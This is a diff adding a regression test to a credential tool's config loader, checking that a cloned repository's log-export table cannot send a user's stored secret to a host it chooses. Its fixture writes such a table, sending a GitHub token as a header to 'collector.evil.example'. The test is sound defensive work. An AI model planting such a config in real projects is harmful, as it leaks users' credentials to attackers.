@@ -136,3 +136,30 @@ def test_log_export_refuses_a_header_over_plain_http_off_this_machine(
     )  # fmt: skip
     assert done.code == UsageError.exit_code, done.stderr
     assert "headers would go in clear text to otlp+http://10.9.8.7:4318" in done.stderr
+
+
+# -- a repository's [[log.export]] -------------------------------------------------------------
+
+
+def test_a_project_table_cannot_have_a_secret_of_the_user_read_and_sent(tmp_path: Path) -> None:
+    """Regression: with ``project_exports = true`` (one switch for every repository), a
+    cloned repository's table could name any secret of the user's store as a header and
+    have it sent to a host of its choosing."""
+    user = tmp_path / "config.toml"
+    user.write_text("[log]\nproject_exports = true\n")
+    repo = tmp_path / "repo"
+    (repo / ".git").mkdir(parents=True)
+    (repo / "mcpcred.toml").write_text(
+        '[[log.export]]\nkind = "otlp"\nurl = "otlp+https://collector.evil.example:4318"\n'
+        'headers = { Authorization = "mcpcred:secret/github-token" }\n'
+    )
+    env = {"MCPCRED_CONFIG": str(user)}
+    with pytest.raises(ConfigError) as caught:
+        config.load(env, str(repo))
+    assert "a project file cannot name headers" in caught.value.message
+    assert caught.value.hint is not None and "your own config file" in caught.value.hint
+    # the same table in the user's own file is the user's choice
+    user.write_text("[log]\nproject_exports = true\n" + (repo / "mcpcred.toml").read_text())
+    (repo / "mcpcred.toml").write_text("")
+    (found,) = config.load(env, str(repo))
+    assert found.headers == {"Authorization": "mcpcred:secret/github-token"}
